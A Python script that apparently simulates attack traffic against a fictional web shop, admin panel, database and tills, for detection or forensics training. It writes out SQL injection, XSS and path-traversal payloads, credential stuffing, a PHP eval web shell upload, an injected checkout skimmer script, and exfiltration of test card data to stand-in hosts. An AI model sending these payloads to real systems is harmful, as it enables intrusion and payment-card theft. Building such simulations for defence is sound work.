#!/usr/bin/env python3
"""The example shop: a web shop, its administration, a stock database and tills, and what happens to them.

shop.py home | hosts SIDE | serve SIDE | attack SIDE, with SIDE inside (the shop) or outside (customers, attackers, office)
"""

import asyncio
import sys

from wire import browse, knock, lookup, pages, scripted, serve, talk

WEB, ADMIN, STOCK, CAMERA = "10.50.10.20", "10.50.10.21", "10.50.10.30", "10.50.30.60"
TILLS = ["10.50.30.11", "10.50.30.12", "10.50.30.13", "10.50.30.14"]
OFFICE = ["10.50.20.41", "10.50.20.42"]
PROBER, STUFFER, STUFFER2, SKIMMER, TESTER = "203.0.113.21", "203.0.113.22", "198.51.100.14", "203.0.113.77", "192.0.2.90"
UNKNOWN, PROVIDER, MIRROR, NAMES = "203.0.113.150", "198.51.100.80", "198.51.100.81", "198.51.100.53"
SHOP, PANEL = "shop.example", "panel.shop.example"
CARD = "4111111111111111"  # the card industry's number for tests
PIXEL = b"<script src=//checkout-cdn.example/pay.js></script>"
START = b"<html><title>Example shop</title><form action=/account/login method=post></form></html>"


def respond(request):
    method, path = request.split(b" ", 2)[:2]
    if b"union" in path.lower() or b"sleep(" in path.lower():
        return b"500 Internal Server Error", b"text/html", b"<h1>database error near SELECT</h1>"
    if path.startswith((b"/.env", b"/.git", b"/backup", b"/app/etc")):
        return b"404 Not Found", b"text/html", b"<h1>not here</h1>"
    if path.startswith(b"/account/login"):
        if b"pass=Sommer2025" in request:
            return b"302 Found", b"text/html", b"welcome"
        return b"401 Unauthorized", b"text/html", b"<h1>wrong password</h1>"
    if path.startswith(b"/checkout/pay"):
        return b"402 Payment Required", b"application/json", b'{"result":"declined"}'
    if path == b"/checkout/gift":
        return b"200 OK", b"text/html", START + PIXEL
    if path.startswith(b"/admin") and b"Basic YWRtaW46YWRtaW4=" not in request:
        return b"403 Forbidden", b"text/html", b"<h1>sign in</h1>"
    return b"200 OK", b"text/html", START


http = pages(b"shop", respond)
SQL = scripted(b"\x4a\x00\x00\x00\x0a8.0.36\x00", [(b"", b"\x17\x00\x00\x02\xff\x15\x04#28000Access denied")])
INSIDE = {WEB: {80: http}, ADMIN: {8080: http}, STOCK: {3306: SQL}, CAMERA: {80: http, 23: scripted(b"camera login: ", [(b"", b"Password: ")])},
          **{till: {5900: scripted(b"RFB 003.008\n", [(b"", b"\x01\x02")]), 445: scripted(b"", [(b"", b"\x00\x00\x00\x04\xffSMB")])} for till in TILLS}}
OUTSIDE = {UNKNOWN: {8443: http, 80: http}, PROVIDER: {443: scripted(b"", [(b"", b"\x15\x03\x03\x00\x02\x02\x28")]), 80: http},
           SKIMMER: {80: http}, MIRROR: {80: http}}
HOSTS = {"inside": [*INSIDE], "outside": [*OFFICE, PROBER, STUFFER, STUFFER2, TESTER, *OUTSIDE, NAMES]}


def shop(src, path, method="GET", body="", **more):
    browse(src, WEB, path, SHOP, method, body=body, **more)


def against_the_web_shop():
    for path in ("/", "/robots.txt", "/.env", "/.git/config", "/backup.sql", "/app/etc/env.php"):
        shop(TESTER if path.endswith("sql") else PROBER, path)
    for n in range(3):
        shop(PROBER, f"/search?q=x%27%20UNION%20ALL%20SELECT%20mail,hash%20FROM%20customers%20LIMIT%20{n}--", agent="sqlprobe/3.1")
        shop(PROBER, f"/product?id={n}%27%20OR%20{n}={n}--", agent="sqlprobe/3.1")
    shop(PROBER, "/product?id=7%20AND%20SLEEP(5)")
    shop(TESTER, "/product?id=9%20AND%20SLEEP(9)")
    shop(PROBER, "/search?q=1%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables")
    for path in ("/search?q=<script>alert(1)</script>", "/review?text=<script>document.cookie</script>"):
        shop(TESTER, path)
    shop(TESTER, "/media/get?file=../../../../app/etc/env.php")
    shop(PROBER, "/media/get?file=../../../../etc/hosts")
    for src, agent in ((MIRROR, "pricebot/2.0"), (OFFICE[1], "python-requests/2.32")):
        for path in ("/catalog?page=1", "/catalog?page=2"):
            shop(src, path, agent=agent)


def against_accounts():
    for src, people in ((STUFFER, ("ann", "bob", "carl", "dora", "kim")),
                        (STUFFER2, ("mia", "nils", "olga", "paul"))):
        for n, person in enumerate(people):
            shop(src, "/account/login", "POST", f"mail={person}@mail.example&pass=qwerty{n}", agent="okhttp/4.12")
    shop(STUFFER, "/account/login", "POST", "mail=kim@mail.example&pass=Sommer2025", agent="okhttp/4.12")
    for n in range(6):
        shop(TESTER, "/checkout/pay", "POST", f"order={900 + n}&card={CARD}&cvc={100 + n}")
    for n in range(5):
        shop(TESTER, f"/voucher/check?code=GIFT{4000 + n}")
    for n in range(4):
        shop(STUFFER2, f"/api/orders/{77010 + n}", agent="okhttp/4.12")
    shop(TESTER, "/cart/update", "POST", "sku=4711&quantity=-3&price=0.01")
    shop(STUFFER2, "/cart/update", "POST", "sku=4712&quantity=1&price=0.01")


def against_the_panel():
    for src in (PROBER, STUFFER2, OFFICE[0]):
        browse(src, ADMIN, "/admin/", PANEL, port=8080)
    for n in range(6):
        browse(PROBER, ADMIN, "/admin/login", PANEL, "POST", body=f"user=admin&pass=shop{n}", port=8080)
    for src in (PROBER, OFFICE[0]):
        browse(src, ADMIN, "/admin/orders", PANEL, header="Authorization: Basic YWRtaW46YWRtaW4=\r\n", port=8080)
    browse(PROBER, ADMIN, "/admin/blocks/save", PANEL, "POST", header="Authorization: Basic YWRtaW46YWRtaW4=\r\n",
           body="block=footer&html=<script src=//checkout-cdn.example/pay.js></script>", port=8080)
    browse(PROBER, ADMIN, "/media/upload", PANEL, "POST", body="name=gift.phtml&data=<?php eval($_POST[1]); ?>", port=8080)
    for src in (OFFICE[1], TESTER):
        shop(src, "/checkout/gift")


def against_machines():
    knock(PROBER, WEB, (21, 22, 23, 25, 110, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 9200))
    for src in (PROBER, TESTER):
        talk(src, STOCK, 3306, greeted=True)
    talk(OFFICE[0], CAMERA, 23, b"root\r\n", greeted=True)
    talk(PROBER, CAMERA, 23, b"root\r\n", b"camera\r\n", greeted=True)
    browse(OFFICE[0], CAMERA, "/", "camera.shop.example", header="Authorization: Basic YWRtaW46YWRtaW4=\r\n")
    for till in TILLS[:2]:
        talk(OFFICE[1], till, 5900, b"RFB 003.008\n", greeted=True)
        talk(OFFICE[1], till, 445, b"\x00\x00\x00\x2f\xffSMB\x72" + bytes(42))


def from_the_shop():
    for till in TILLS:
        lookup(till, "pay.provider.example")
        talk(till, PROVIDER, 443, b"\x16\x03\x01\x00\x02\x01\x00")
        browse(till, MIRROR, "/till/version", "updates.tills.example", agent="TillUpdate/5.2")
    for name in ("sync.till-cloud.example", "a1.till-cloud.example"):
        lookup(TILLS[2], name)
    for n in range(4):
        browse(TILLS[2], UNKNOWN, f"/sync?till=3&n={n}", "sync.till-cloud.example", agent="WinHTTP/1.0", port=8443)
    browse(TILLS[2], UNKNOWN, "/sync", "sync.till-cloud.example", "POST", agent="WinHTTP/1.0",
           body=f"till=3&t=;{CARD}=29121010000012300000?", port=8443)
    for n in range(3):
        browse(WEB, SKIMMER, "/collect", "checkout-cdn.example", "POST", agent="php-curl", body=f"c={CARD}&e=12/29&v={310 + n}")
    for name in ("checkout-cdn.example", "mail.shop.example", "mirror.example"):
        lookup(WEB, name)
    for src, agent in ((WEB, "curl/8.9.1"), (ADMIN, "Wget/1.21.3")):
        browse(src, MIRROR, "/plugins/latest.zip", "mirror.example", agent=agent)


def main(what, side=""):
    if what == "home":
        print("[10.50.10.0/24,10.50.30.0/24]")
    elif what == "hosts":
        print(*HOSTS[side], sep="\n")
    elif what == "serve":
        asyncio.run(serve(INSIDE if side == "inside" else OUTSIDE, names=NAMES if side == "outside" else None))
    elif side == "outside":
        against_the_web_shop()
        against_accounts()
        against_the_panel()
        against_machines()
    else:
        from_the_shop()


main(*sys.argv[1:])
